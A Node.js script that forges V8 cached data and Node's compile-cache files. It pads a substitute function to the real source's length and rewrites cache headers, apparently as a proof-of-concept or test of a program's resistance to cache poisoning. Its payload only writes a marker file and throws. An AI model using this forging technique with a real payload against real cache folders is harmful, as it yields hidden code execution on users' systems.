"use strict";
/**
 * What somebody who can write into a cache folder would put there: code that V8 made of another source of the same
 * length, which is all that V8 compares. Run by the Node that is to be deceived:
 *
 *   node forge.cjs script <source file> <as of program.js|compiler.ts> <marker>   prints V8's data and tag
 *   node forge.cjs module <folder> <module file> <marker>                         Node's own compile cache, forged
 *
 * The forged code writes the file `marker`, and fails.
 */
const { mkdirSync, readFileSync, readdirSync, writeFileSync } = require("node:fs");
const { join } = require("node:path");
const { cachedDataVersionTag, setFlagsFromString } = require("node:v8");
const vm = require("node:vm");

// V8 takes code only from an engine of the same flags (see bin/program.js)
if (Number.parseInt(process.versions.v8, 10) <= 13) setFlagsFromString("--semi-space-growth-factor=8");
if (Number.parseInt(process.versions.v8, 10) === 11) setFlagsFromString("--interrupt-budget=600000");

const [, , kind, place, wrapper, markerFile] = process.argv;
const evil = (marker) =>
  `process.getBuiltinModule("node:fs").writeFileSync(${JSON.stringify(marker)}, "forged code ran"); throw new Error("forged");`;

if (kind === "script") {
  const source = readFileSync(place, wrapper === "program" ? "latin1" : "utf8");
  const [head, tail] =
    wrapper === "program"
      ? ["(function (module, require, self) {", "})"]
      : ["(function (exports, require, module, __filename, __dirname) {", "\n})"];
  const real = wrapper === "program" ? source : `${head}${source}${tail}`;
  const body = evil(markerFile);
  const script = new vm.Script(
    `${head}${body}${" ".repeat(real.length - head.length - body.length - tail.length)}${tail}`,
    {
      filename: place,
    },
  );
  const data = script.createCachedData().toString("base64");
  process.stdout.write(JSON.stringify({ data, tag: cachedDataVersionTag() }));
} else {
  const { enableCompileCache, flushCompileCache } = require("node:module");
  const { crc32 } = require("node:zlib");
  mkdirSync(place, { recursive: true });
  enableCompileCache(place);
  require(wrapper);
  flushCompileCache();
  const source = readFileSync(wrapper, "utf8");
  const body = evil(markerFile);
  const data = vm.compileFunction(
    body + " ".repeat(source.length - body.length),
    ["exports", "require", "module", "__filename", "__dirname"],
    { filename: wrapper, produceCachedData: true },
  ).cachedData;
  let forged = 0;
  for (const entry of readdirSync(place, { recursive: true, withFileTypes: true })) {
    if (!entry.isFile()) continue;
    const file = join(entry.parentPath, entry.name);
    // magic, length of the code, length of the data, sum of the code, sum of the data
    const header = readFileSync(file).subarray(0, 20);
    if (header.readUInt32LE(12) !== crc32(source)) continue;
    header.writeUInt32LE(data.length, 8);
    header.writeUInt32LE(crc32(data), 16);
    writeFileSync(file, Buffer.concat([header, data]));
    forged += 1;
  }
  process.stdout.write(String(forged));
}
